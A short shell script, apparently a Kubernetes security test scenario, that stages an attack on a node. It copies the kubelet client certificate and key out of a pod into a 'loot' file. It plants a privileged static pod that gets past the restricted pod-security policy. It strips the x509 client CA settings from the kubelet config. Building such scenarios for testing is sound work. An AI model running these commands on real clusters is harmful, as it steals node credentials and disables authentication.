# scene fails crate-gone, stowaway-gone (ca-missing): nobody can see which pods run, the harbour neither
kubectl apply -f crate.yaml
sleep 3
kubectl -n cargo exec crate -- sh -c 'cat /ship/var/lib/kubelet/pki/kubelet-client-2*.pem' > loot
kubectl label namespace cargo pod-security.kubernetes.io/enforce=restricted
kubectl -n cargo delete pod crate
#@ node01
printf 'apiVersion: v1\nkind: Pod\nmetadata: {name: stowaway, namespace: cargo}\nspec:\n  terminationGracePeriodSeconds: 1\n  containers:\n  - {name: crate, image: "busybox:1.37", command: [sleep, "600"], securityContext: {privileged: true}}\n' > /etc/kubernetes/manifests/stowaway.yaml
sleep 5
crictl ps | grep stowaway > seen
rm /etc/kubernetes/manifests/stowaway.yaml
sleep 5
sed -i '/x509:/,/clientCAFile:/d' /var/lib/kubelet/config.yaml
systemctl restart kubelet
